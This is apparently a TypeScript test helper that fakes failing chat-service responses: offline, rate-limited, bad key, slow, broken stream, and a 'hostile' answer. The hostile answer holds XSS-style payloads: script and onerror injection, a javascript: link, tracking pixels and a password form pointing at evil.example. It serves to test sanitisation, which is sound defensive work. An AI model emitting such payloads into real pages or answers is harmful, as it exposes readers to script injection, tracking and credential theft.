type Fetch = typeof fetch;

/** Milliseconds until the first word of the slow answer. */
const SLOW = 12_000;

/** Answers in the data stream protocol of the AI SDK 4. */
const hostileText = `Here is what an answer might try, shown as a reader gets it:

<script>document.title = 'taken over'</script>
<img src="https://evil.example/pixel.png?reader=1" onerror="document.title = 'taken over'">

[A link that runs code](javascript:document.title='taken over') and
![an image that reports to another host](https://evil.example/pixel.png)

<style>body { display: none }</style><b onclick="alert(1)">Bold text</b> stays. The rest is gone, or plain text.

<form action="https://evil.example"><input name="password"></form>
`;

/** Answers questions as a failing service would. */
const scripts: Readonly<Record<string, (ask: () => Promise<Response>) => Promise<Response>>> = {
  offline: () => Promise.reject(new TypeError('Failed to fetch')),
  limit: async () => json(429, { message: 'Too many requests' }, { 'Retry-After': '20' }),
  key: async () => json(401, { message: 'Unknown key' }),
  slow: async (ask) => {
    await new Promise((resolve) => setTimeout(resolve, SLOW));
    return ask();
  },
  broken: async () => stream('f:{"messageId":"m1"}\n0:"To change the accent colour, set the custom "\n', 'break'),
  hostile: async () => stream(`0:${JSON.stringify(hostileText)}\nd:{"finishReason":"stop"}\n`),
};

/**
 * Makes a page's questions fail in the chosen way, and offline all requests; `none` and unknown names change nothing. Lasts until the
 * page is left.
 */
export function failQuestions(page: Window & typeof globalThis, failure: string): void {
  const script = scripts[failure];
  if (!script) return;
  const real = page.fetch.bind(page);
  const failing: Fetch = (input, init) => {
    const isFailing = failure === 'offline' || init?.method === 'POST';
    return isFailing ? script(() => real(input, init)) : real(input, init);
  };
  page.fetch = failing;
  if (failure === 'offline') Object.defineProperty(page.navigator, 'onLine', { get: () => false });
}

function json(status: number, body: unknown, headers: Record<string, string> = {}): Response {
  return new Response(JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json', ...headers } });
}

/** @param end - `break` breaks the connection after the text. */
function stream(text: string, end: 'close' | 'break' = 'close'): Response {
  const body = new ReadableStream<Uint8Array>({
    start: (controller) => controller.enqueue(new TextEncoder().encode(text)),
    // When all has been read.
    pull(controller) {
      if (end === 'break') controller.error(new TypeError('network error'));
      else controller.close();
    },
  });
  return new Response(body, { headers: { 'Content-Type': 'text/plain; charset=utf-8' } });
}
